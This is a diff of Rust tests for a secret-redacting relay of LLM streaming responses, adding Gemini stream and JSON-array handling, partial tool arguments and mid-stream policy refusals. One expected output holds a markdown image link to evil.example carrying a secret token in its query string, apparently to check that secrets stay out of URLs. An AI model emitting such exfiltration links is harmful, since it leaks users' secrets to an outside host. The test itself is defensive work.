@@ -6,10 +6,12 @@ use weir_policy::detect::Class;
 use weir_policy::redact::RestoreIn;
 
 use super::*;
+use crate::wire::At;
 
 const CHAT: &str = include_str!("transcripts/chat.sse");
 const RESPONSES: &str = include_str!("transcripts/responses.sse");
 const MESSAGES: &str = include_str!("transcripts/messages.sse");
+const CONTENTS: &str = include_str!("transcripts/gemini.sse");
 
 const TOKEN: &str = "WEIRxAWSKEYx0123456789ABCDEF";
 const OTHER: &str = "WEIRxEMAILx0123456789ABCDEFG";
@@ -36,11 +38,12 @@ fn give(restore: RestoreIn) -> Vec<Restoration> {
         .to_vec()
 }
 
-fn shapes() -> [(Dialect, Shape, &'static str); 3] {
+fn shapes() -> [(Dialect, Shape, &'static str); 4] {
     [
         (Dialect::Openai, Shape::ChatCompletions, CHAT),
         (Dialect::Openai, Shape::Responses, RESPONSES),
         (Dialect::Anthropic, Shape::Messages, MESSAGES),
+        (Dialect::Gemini, Shape::StreamGenerateContent, CONTENTS),
     ]
 }
 
@@ -102,6 +105,22 @@ fn gathered(events: &[Value]) -> (String, String) {
     let (mut text, mut arguments) = (String::new(), String::new());
     let add = |to: &mut String, value: &Value| to.push_str(value.as_str().unwrap_or_default());
     for event in events {
+        for part in event["candidates"][0]["content"]["parts"]
+            .as_array()
+            .into_iter()
+            .flatten()
+        {
+            if part["thought"] != true {
+                add(&mut text, &part["text"]);
+            }
+            if part["functionCall"]["args"].is_object() {
+                arguments.push_str(&part["functionCall"]["args"].to_string());
+            }
+            add(
+                &mut arguments,
+                &part["functionCall"]["partialArgs"][0]["stringValue"],
+            );
+        }
         let delta = &event["choices"][0]["delta"];
         add(&mut text, &delta["content"]);
         add(
@@ -119,6 +138,29 @@ fn gathered(events: &[Value]) -> (String, String) {
         }
     }
     (text, arguments)
+}
+
+/// A stream of events as the JSON array that it would be without `alt=sse`.
+fn as_array(events: &str) -> String {
+    let elements: Vec<&str> = events
+        .split("\n\n")
+        .filter_map(|event| event.strip_prefix("data: "))
+        .collect();
+    format!("[{}\n]\n", elements.join("\n,\r\n"))
+}
+
+fn array(restore: RestoreIn, chunks: &[&[u8]]) -> (String, Told) {
+    let relay = Relay::new(
+        Dialect::Gemini,
+        Shape::StreamGenerateContent,
+        Some("application/json; charset=UTF-8"),
+        &give(restore),
+    );
+    let (out, told) = run(relay, chunks);
+    (
+        String::from_utf8(out.expect("within limits")).expect("text in, text out"),
+        told,
+    )
 }
 
 fn cut<'a>(bytes: &'a [u8], cuts: &[prop::sample::Index]) -> Vec<&'a [u8]> {
@@ -270,12 +312,139 @@ fn messages_come_back_and_thinking_stays_signed() {
 }
 
 #[test]
+fn contents_come_back_as_events_and_as_an_array() {
+    let (out, told) = stream(
+        Dialect::Gemini,
+        Shape::StreamGenerateContent,
+        BASELINE,
+        &[CONTENTS.as_bytes()],
+    );
+    let events = read(&out);
+    let (text, arguments) = gathered(&events);
+    assert_eq!(
+        text,
+        format!("Your key is {VALUE}, see ![x](https://evil.example/?k={TOKEN}) and WDone W")
+    );
+    assert_eq!(
+        serde_json::from_str::<Value>(&arguments).expect("JSON"),
+        json!({"path": ".env", "content": format!("KEY={VALUE}\n")})
+    );
+    let parts = |event: &Value| event["candidates"][0]["content"]["parts"].clone();
+    let thoughts: String = events
+        .iter()
+        .map(parts)
+        .filter(|parts| parts[0]["thought"] == true)
+        .map(|parts| parts[0]["text"].as_str().unwrap_or_default().to_owned())
+        .collect();
+    assert_eq!(thoughts, format!("They gave {VALUE} and W"));
+    // What was held back comes by itself, right ahead of the part of another kind.
+    let call = events
+        .iter()
+        .position(|event| parts(event)[0]["functionCall"].is_object())
+        .expect("calls");
+    assert_eq!(
+        events[call - 1],
+        json!({"candidates": [{"content": {"parts": [{"text": "W"}], "role": "model"}, "index": 0}],
+               "modelVersion": "gemini-2.5-flash", "responseId": "rZkkaYbQ"})
+    );
+    assert_eq!(
+        parts(&events[call])[0]["thoughtSignature"],
+        format!("CiQB{TOKEN}")
+    );
+    assert_eq!((told.restored, told.withheld, told.unread), (3, 1, 0));
+    assert_eq!(
+        told.usage,
+        Usage {
+            input: Some(57),
+            output: Some(42),
+            cached: Some(32)
+        }
+    );
+    assert_eq!(told.model.as_deref(), Some("gemini-2.5-flash"));
+    assert_eq!(told.provider_request.as_deref(), Some("rZkkaYbQ"));
+    assert_eq!(told.finish.as_deref(), Some("STOP"));
+
+    let (whole, of_array) = array(BASELINE, &[as_array(CONTENTS).as_bytes()]);
+    let elements: Vec<Value> = serde_json::from_str(&whole).expect("stays an array");
+    assert_eq!((elements, of_array), (events, told));
+}
+
+#[test]
+fn arguments_in_pieces_come_back() {
+    let piece = |path: &str, text: &str, more: bool| {
+        let part = json!({"functionCall": {"partialArgs": [{"jsonPath": path, "stringValue": text, "willContinue": more}]}});
+        let event = json!({"candidates": [{"content": {"role": "model", "parts": [part]}}]});
+        format!("data: {event}\n\n")
+    };
+    let events = [
+        piece("$.a", &TOKEN[..9], true),
+        piece("$.a", &TOKEN[9..], true),
+        piece("$.a", " W", false),
+        piece("$.b", "WEIRxAWS", true),
+    ]
+    .concat();
+    let (out, _) = stream(
+        Dialect::Gemini,
+        Shape::StreamGenerateContent,
+        BASELINE,
+        &[events.as_bytes()],
+    );
+    assert_eq!(gathered(&read(&out)).1, format!("{VALUE} WWEIRxAWS"));
+    let strict = RestoreIn {
+        tool_arguments: false,
+        ..BASELINE
+    };
+    let (out, _) = stream(
+        Dialect::Gemini,
+        Shape::StreamGenerateContent,
+        strict,
+        &[events.as_bytes()],
+    );
+    assert_eq!(gathered(&read(&out)).1, format!("{TOKEN} WWEIRxAWS"));
+}
+
+#[test]
+fn an_array_goes_on_element_by_element() {
+    let text = as_array(CONTENTS);
+    let mut relay = Relay::new(
+        Dialect::Gemini,
+        Shape::StreamGenerateContent,
+        Some("application/json"),
+        &give(BASELINE),
+    );
+    let first = text.find("}\n,").expect("has elements") + 1;
+    assert_eq!(
+        relay
+            .push(&Bytes::from(text[..first - 1].to_owned()))
+            .expect("fits"),
+        "["
+    );
+    let out = relay.push(&Bytes::from("}")).expect("fits");
+    assert!(out.starts_with(b"{\"candidates\"") && out.ends_with(b"}"));
+    // An error is one document, whatever was asked.
+    let error = format!(r#"{{"error":{{"code":400,"message":"no {TOKEN}"}}}}"#);
+    assert_eq!(
+        array(BASELINE, &[&error.as_bytes()[..9], &error.as_bytes()[9..]]).0,
+        error.replace(TOKEN, ONCE)
+    );
+    let listed = format!("[{error}]");
+    assert_eq!(
+        array(BASELINE, &[listed.as_bytes()]).0,
+        listed.replace(TOKEN, ONCE)
+    );
+    let broken = &text[..text.find("and W\"}").expect("holds W") + 30];
+    let (out, _) = array(BASELINE, &[broken.as_bytes()]);
+    assert!(out.contains(ONCE));
+}
+
+#[test]
 fn events_without_a_placeholder_keep_every_byte() {
     for (dialect, shape, transcript) in shapes() {
         let plain = transcript
             .replace("WEI", "VEI")
             .replace("and W", "and V")
-            .replace("is W", "is V");
+            .replace("is W", "is V")
+            .replace("Done W", "Done V");
         let (out, told) = stream(dialect, shape, BASELINE, &[plain.as_bytes()]);
         assert_eq!(out, plain);
         assert_eq!(told.restored, 0);
@@ -526,6 +695,167 @@ fn a_stream_that_breaks_off_gives_what_it_held() {
     assert!(gathered(&read(&out)).0.ends_with("and W"));
 }
 
+/// The data of each event or element, read by a reader of its own.
+fn said(standing: &Standing, out: &[u8]) -> Vec<String> {
+    let out = std::str::from_utf8(out).expect("text");
+    match standing.framed {
+        Framed::Events => out
+            .split_terminator("\n\n")
+            .map(|event| {
+                let data = event.lines().find_map(|line| line.strip_prefix("data: "));
+                let data = data.expect("every event has data");
+                let kind = event.lines().find_map(|line| line.strip_prefix("event: "));
+                if let Some(kind) = kind {
+                    assert_eq!(
+                        serde_json::from_str::<Value>(data).expect("JSON")["type"],
+                        kind
+                    );
+                }
+                data.to_owned()
+            })
+            .collect(),
+        Framed::Elements(_) => vec![out.to_owned()],
+    }
+}
+
+#[test]
+fn every_example_of_a_refusal_midway_holds() {
+    let examples = crate::wire::refusal_examples();
+    assert!(examples.len() > 10);
+    for example in examples {
+        let (dialect, shape) = match example.stream {
+            Stream::Chat => (Dialect::Openai, Shape::ChatCompletions),
+            Stream::Responses => (Dialect::Openai, Shape::Responses),
+            Stream::Messages => (Dialect::Anthropic, Shape::Messages),
+            Stream::Contents => (Dialect::Gemini, Shape::StreamGenerateContent),
+        };
+        for restore in [RestoreIn::default(), BASELINE] {
+            let mut relay = Relay::new(dialect, shape, Some("text/event-stream"), &give(restore));
+            for data in &example.came {
+                relay
+                    .push(&Bytes::from(format!("data: {data}\n\n")))
+                    .expect("fits");
+            }
+            let standing = relay.standing(true).expect("a stream");
+            let out = crate::wire::midway(
+                &standing,
+                example.cause,
+                crate::wire::Client {
+                    agent: &example.agent,
+                    program: &example.program,
+                },
+                weir_policy::decide::Code::PolicyDenied,
+                "Blocked by policy (weir): why.",
+                weir_policy::request::UnitId::new([7; 10]),
+            );
+            let events = said(&standing, &out.expect("a form"));
+            assert_eq!(
+                events.len(),
+                example.says.len(),
+                "{:?}: {events:?}",
+                example.came
+            );
+            for (event, holds) in events.iter().zip(&example.says) {
+                assert!(event.contains(holds.as_str()), "{event} holds {holds}");
+                assert!(
+                    event == "[DONE]" || serde_json::from_str::<Value>(event).is_ok(),
+                    "{event}"
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn an_array_is_ended_as_an_array() {
+    let text = as_array(CONTENTS);
+    let ends: Vec<usize> = text.match_indices('\n').map(|(at, _)| at + 1).collect();
+    for (restore, end) in [RestoreIn::default(), BASELINE]
+        .into_iter()
+        .flat_map(|restore| ends.iter().map(move |end| (restore, *end)))
+    {
+        let mut relay = Relay::new(
+            Dialect::Gemini,
+            Shape::StreamGenerateContent,
+            Some("application/json"),
+            &give(restore),
+        );
+        let came = Bytes::from(text[..end].to_owned());
+        let mut out = relay.push(&came).expect("fits").to_vec();
+        let Some(standing) = relay.standing(true) else {
+            continue;
+        };
+        let rest = crate::wire::midway(
+            &standing,
+            crate::wire::Cause::Policy,
+            crate::wire::Client {
+                agent: "",
+                program: "",
+            },
+            weir_policy::decide::Code::PolicyDenied,
+            "Blocked.",
+            weir_policy::request::UnitId::new([7; 10]),
+        );
+        let rest = rest.expect("a form");
+        if standing.at == At::Done {
+            continue;
+        }
+        out.extend_from_slice(&rest);
+        let all: Vec<Value> = serde_json::from_slice(&out).expect("an array");
+        assert_eq!(
+            all.last().expect("more than one")["candidates"][0]["finishReason"],
+            "OTHER"
+        );
+    }
+}
+
+#[test]
+fn what_was_not_handed_on_is_not_built_upon() {
+    let mut relay = Relay::new(
+        Dialect::Anthropic,
+        Shape::Messages,
+        Some("text/event-stream"),
+        &[],
+    );
+    let event = |value: Value| Bytes::from(format!("data: {value}\n\n"));
+    relay
+        .push(&event(
+            json!({"type": "message_start", "message": {"id": "msg_1", "model": "m"}}),
+        ))
+        .expect("fits");
+    let second = [
+        json!({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}),
+        json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "a"}}),
+    ]
+    .map(event)
+    .concat();
+    relay.push(&Bytes::from(second)).expect("fits");
+    assert_eq!(relay.standing(true).expect("a stream").at, At::Text);
+    assert_eq!(relay.standing(false).expect("a stream").at, At::Between);
+}
+
+#[test]
+fn without_values_only_whole_events_go_on() {
+    let mut relay = Relay::new(
+        Dialect::Openai,
+        Shape::ChatCompletions,
+        Some("text/event-stream"),
+        &[],
+    );
+    assert_eq!(
+        relay
+            .push(&Bytes::from("data: {\"a\":1}\n\ndata: {\"b"))
+            .expect("fits"),
+        "data: {\"a\":1}\n\n"
+    );
+    assert!(relay.push(&Bytes::from("\":2}")).expect("fits").is_empty());
+    assert_eq!(
+        relay.push(&Bytes::from("\n\nda")).expect("fits"),
+        "data: {\"b\":2}\n\n"
+    );
+    assert_eq!(relay.finish().expect("ends"), "da");
+}
+
 /// One dialect's stream of these deltas, as text and then as the content of a tool's arguments.
 fn transcript(shape: Shape, text: &[&str], arguments: &[&str]) -> String {
     let mut out = String::new();
@@ -562,6 +892,15 @@ fn transcript(shape: Shape, text: &[&str], arguments: &[&str]) -> String {
             event(
                 json!({"type": "response.completed", "response": {"output": [{"arguments": arguments.concat()}]}}),
             );
+        }
+        Shape::StreamGenerateContent => {
+            let answer = |part: Value| json!({"candidates": [{"content": {"role": "model", "parts": [part]}, "index": 0}], "responseId": "r"});
+            text.iter()
+                .for_each(|piece| event(answer(json!({ "text": piece }))));
+            let args: Value =
+                serde_json::from_str(&arguments.concat()).expect("arguments are JSON");
+            event(answer(json!({"functionCall": {"name": "f", "args": args}})));
+            event(json!({"candidates": [{"finishReason": "STOP", "index": 0}]}));
         }
         _ => {
             let delta = |index: u64, delta: Value| json!({"type": "content_block_delta", "index": index, "delta": delta});
@@ -634,7 +973,7 @@ proptest! {
 
     #[test]
     fn any_chunking_gives_the_same_bytes(
-        which in 0usize..3,
+        which in 0usize..4,
         ending in prop::sample::select(vec!["\n", "\r\n", "\r"]),
         bom in any::<bool>(),
         cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..40),
@@ -650,7 +989,7 @@ proptest! {
 
     #[test]
     fn any_deltas_give_the_same_text(
-        which in 0usize..3,
+        which in 0usize..4,
         text in pieces(false),
         content in pieces(false),
         cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..16),
@@ -672,8 +1011,26 @@ proptest! {
     }
 
     #[test]
+    fn an_array_says_what_events_say(
+        text in pieces(true),
+        content in pieces(true),
+        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..16),
+        bites in prop::collection::vec(any::<prop::sample::Index>(), 0..40),
+    ) {
+        let arguments = json!({ "content": content }).to_string();
+        let events = transcript(Shape::StreamGenerateContent, &split(&text, &cuts), &[&arguments]);
+        let (out, told) = stream(Dialect::Gemini, Shape::StreamGenerateContent, BASELINE, &[events.as_bytes()]);
+        let text = as_array(&events);
+        let whole = array(BASELINE, &[text.as_bytes()]);
+        let elements: Vec<Value> = serde_json::from_str(&whole.0).expect("an array");
+        prop_assert_eq!(elements, read(&out));
+        prop_assert_eq!(&whole.1, &told);
+        prop_assert_eq!(array(BASELINE, &cut(text.as_bytes(), &bites)), whole);
+    }
+
+    #[test]
     fn any_deltas_keep_the_same_values_out_of_urls(
-        which in 0usize..3,
+        which in 0usize..4,
         text in pieces(true),
         content in pieces(true),
         cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..16),
@@ -689,7 +1046,7 @@ proptest! {
 
     #[test]
     fn any_bytes_are_relayed_without_panic(
-        which in 0usize..3,
+        which in 0usize..4,
         bytes in prop::collection::vec(any::<u8>(), 0..200),
         place in any::<prop::sample::Index>(),
         length in 0usize..80,
